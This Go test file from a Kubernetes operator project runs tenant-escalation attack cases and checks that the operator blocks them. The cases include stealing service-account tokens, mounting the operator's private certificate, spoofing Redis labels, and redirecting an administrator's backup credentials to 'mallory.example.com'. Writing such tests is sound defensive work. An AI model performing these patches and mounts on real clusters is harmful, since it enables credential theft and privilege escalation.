// Copyright The opcrew Authors.
// SPDX-License-Identifier: Apache-2.0

//go:build attack

package attack

import (
	"slices"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// borrowAttacks returns attacks in which a tenant uses rights or data that opcrew, or an administrator, has put into
// the pods of an object.
func borrowAttacks() []attack {
	return []attack{
		{name: "the token of the default ServiceAccount", source: "second review 1, OWASP K06", needs: noToken, pods: true,
			manifest: app("pod: {serviceAccountName: default}"), harm: aPodHas("a token for the API server", hasToken),
			control: func(w *world) { w.has(unprotected) }},
		{name: "an inline volume of a CSI driver", source: "second review 2, OWASP K08", needs: requester,
			manifest: redisPod("volumes: [{name: v, csi: {driver: vault.example.com}}]"),
			stops:    &report{"RequesterMayNot", []string{"csidrivers.storage.k8s.io", "vault.example.com"}}, harm: aPodMentions("vault.example.com")},
		{name: "the credentials of an administrator's backup, sent to a server of the tenant", source: "second review 3, OWASP K08", needs: requester,
			before: backupOfAdmin, act: redirect, refused: []string{"awsSecret", "payroll"}},
		{name: "the private key of the status page in a side container", source: "second review 5, OWASP K08", needs: schema,
			manifest: redisWith("volumeMounts: [{name: opcrew-certificate, mountPath: /c}]"), refused: []string{"sideContainersSpec", "opcrew"},
			harm: aContainerHas("a volume of opcrew", mountsCertificate("side"))},
		{name: "the private key of the status page in a server", source: "second review 5, OWASP K08", needs: schema,
			manifest: redisPod("redisEnterpriseVolumeMounts: [{name: opcrew-certificate, mountPath: /c}]"), refused: []string{"redisEnterpriseVolumeMounts", "opcrew"},
			harm: aContainerHas("a volume of opcrew", mountsCertificate("home"))},
		{name: "a pod behind the Service of a Redis cluster", source: "second review 7, OWASP K07", needs: schema,
			manifest: app("pod: {labels: {redis.io/role: node, redis.io/cluster: cache}}"), refused: []string{"labels", "redis.io/"}, harm: labelledAsRedis},
	}
}

// backupOfAdmin creates an EtcdBackup of an administrator with credentials that the tenant may not read.
func backupOfAdmin(w *world) {
	payroll(w)
	w.subject = w.has(backup("storageType: S3, s3: {path: b/k, awsSecret: payroll}"))
}

// redirect changes the server to which the backup pod authenticates.
func redirect(w *world) error {
	patch := client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"s3":{"endpoint":"https://mallory.example.com"}}}`))
	return w.tenant.Patch(w.Context(), w.subject, patch)
}

// mountsCertificate returns a function that reports whether a container of this name mounts opcrew's certificate.
func mountsCertificate(name string) func(corev1.Container) bool {
	return func(c corev1.Container) bool {
		return c.Name == name && slices.ContainsFunc(c.VolumeMounts, func(m corev1.VolumeMount) bool { return m.Name == "opcrew-certificate" })
	}
}

// labelledAsRedis reports harm if the pods of a Deployment have the label of a Redis cluster.
func labelledAsRedis(w *world) string {
	list := &appsv1.DeploymentList{}
	if err := w.admin.List(w.Context(), list, client.InNamespace(w.ns)); err != nil {
		w.Fatal(err)
	}
	for _, d := range list.Items {
		if d.Spec.Template.Labels["redis.io/cluster"] != "" {
			return "pods of Deployment " + d.Name + " have the label of a Redis cluster"
		}
	}
	return ""
}

// hasToken reports whether Kubernetes mounts the token of the ServiceAccount into a pod.
func hasToken(s corev1.PodSpec) bool {
	return s.AutomountServiceAccountToken == nil || *s.AutomountServiceAccountToken
}
